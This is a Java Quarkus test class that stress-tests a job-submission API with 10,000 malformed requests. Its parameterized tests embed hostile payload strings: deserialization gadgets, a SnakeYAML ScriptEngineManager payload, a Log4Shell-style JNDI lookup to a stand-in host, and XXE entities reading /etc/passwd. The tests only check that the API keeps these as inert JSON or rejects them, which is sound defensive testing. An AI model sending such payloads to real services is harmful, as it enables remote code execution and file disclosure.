package dev.millrace.api.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.millrace.api.ApiServers;
import dev.millrace.api.catalog.tasks.TaskCatalog;
import dev.millrace.api.contract.Answer;
import dev.millrace.api.jobs.submit.Client;
import dev.millrace.api.jobs.submit.Client.Reply;
import dev.millrace.api.jobs.submit.Tasks;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import java.util.concurrent.Callable;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.Stream;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@QuarkusTest
@WithTestResource(ApiServers.class)
class HostileInputTest {

    private static final int REQUESTS = 10_000;
    private static final int CLIENTS = 4;
    private static final long SEED = 20_260_131;

    @Inject
    TaskCatalog catalog;

    @ConfigProperty(name = "quarkus.http.test-port")
    int port;

    @BeforeEach
    void aWorkerHasOfferedItsTasks() {
        Tasks.offer(catalog);
    }

    @Test
    void answersTenThousandMalformedRequestsAsTheContractPrescribes() throws Exception {
        HostileRequests requests = new HostileRequests(new SplittableRandom(SEED));
        List<HostileRequest> all = Stream.concat(ProtocolErrors.all().stream(), Stream.generate(requests::next))
                .limit(REQUESTS)
                .toList();
        StatusTable table = new StatusTable();
        ConcurrentLinkedQueue<String> wrong = new ConcurrentLinkedQueue<>();

        sendAll(all, table, wrong);

        Files.writeString(Path.of("target", "hostile-input.txt"), table.toString());
        System.out.println(table);
        assertThat(wrong.stream().limit(20)).isEmpty();
        assertThat(table.count()).isEqualTo(REQUESTS);
        assertThat(new Client(port).call("GET", "/q/health/ready").status()).isEqualTo(200);
    }

    /** What deserialisers of other services would make objects of. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"@class\":\"java.lang.ProcessBuilder\",\"value\":1}",
                "{\"@type\":\"java.lang.AutoCloseable\",\"value\":1}",
                "{\"value\":[\"java.util.HashMap\",{\"a\":1}]}",
                "{\"value\":[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://192.0.2.1/x\"]}",
                "{\"value\":{\"$type\":\"System.Diagnostics.Process\",\"$ref\":\"#/components\",\"__proto__\":{\"admin\":true}}}",
                "{\"value\":\"!!javax.script.ScriptEngineManager [http://192.0.2.1]\"}",
                "{\"value\":\"${jndi:ldap://192.0.2.1/x}\"}",
                "{\"value\":\"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>\"}"
            })
    void keepsGadgetsAsTheJsonThatTheyAre(String payload) {
        Client client = new Client(port);

        Reply accepted = client.submit("{\"task\":\"demo.echo\",\"payload\":" + payload + "}");

        assertThat(accepted.status()).isEqualTo(202);
        assertThat(accepted.http().body()).contains("\"payload\":" + payload);
        JsonNode read = client.call("GET", accepted.header("Location")).json();
        assertThat(read.get("payload")).isEqualTo(accepted.json().get("payload"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://192.0.2.1\"]]",
                "task: demo.echo\npayload: {value: 1}\n",
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
                "<job><task>demo.echo</task></job>"
            })
    void readsNoYamlAndNoXml(String body) {
        Client client = new Client(port);

        assertThat(client.submit(body).problem()).isEqualTo("not-json");
        for (String type : new String[] {"application/yaml", "application/xml", "text/yaml"}) {
            assertThat(client.post("/api/v1/jobs", body, "Content-Type", type).problem())
                    .isEqualTo("unsupported-media-type");
        }
    }

    private void sendAll(List<HostileRequest> all, StatusTable table, ConcurrentLinkedQueue<String> wrong)
            throws Exception {
        try (ExecutorService clients = Executors.newFixedThreadPool(CLIENTS)) {
            List<Callable<Void>> shares = new ArrayList<>();
            for (int share = 0; share < CLIENTS; share++) {
                int first = share;
                shares.add(() -> send(all, first, table, wrong));
            }
            for (Future<Void> done : clients.invokeAll(shares)) {
                done.get();
            }
        }
    }

    private Void send(List<HostileRequest> all, int first, StatusTable table, ConcurrentLinkedQueue<String> wrong)
            throws IOException {
        try (HostileClient client = new HostileClient(port)) {
            for (int i = first; i < all.size(); i += CLIENTS) {
                Answer answer = answer(client, all.get(i));
                table.add(all.get(i).kind(), answer.status());
                check(all.get(i), answer, wrong);
            }
        }
        return null;
    }

    /** A busy machine may keep PostgreSQL from answering in time: that is told with a 503, and asked again. */
    private static Answer answer(HostileClient client, HostileRequest request) throws IOException {
        Answer answer = client.exchange(request);
        for (int again = 0; answer.status() == 503 && again < 10; again++) {
            answer = client.exchange(request);
        }
        return answer;
    }

    private static void check(HostileRequest request, Answer answer, ConcurrentLinkedQueue<String> wrong) {
        try {
            assertThat(answer.status()).isIn(request.statuses());
            if (!request.bare()) {
                answer.requireKept();
            }
        } catch (AssertionError broken) {
            wrong.add(request + "\n=> " + answer + "\n" + broken.getMessage());
        }
    }
}
